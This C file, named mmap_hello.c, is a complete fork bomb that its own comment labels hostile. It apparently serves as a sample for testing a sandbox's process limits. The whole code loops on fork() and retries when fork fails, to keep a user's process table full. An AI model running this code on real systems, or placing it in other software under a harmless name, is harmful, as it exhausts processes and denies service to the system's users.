/*
 * mmap_hello.c, HOSTILE: a fork bomb.  Every process forks in a loop, with
 * no exec, for ever; when fork fails it waits 10 ms and tries again, so the
 * uid's process table stays full for the whole run.  Only RLIMIT_NPROC of the
 * run uid bounds it.
 */
#define _DEFAULT_SOURCE
#include <unistd.h>

int main(void)
{
	for (;;)
		if (fork() == -1)
			usleep(10000);
}
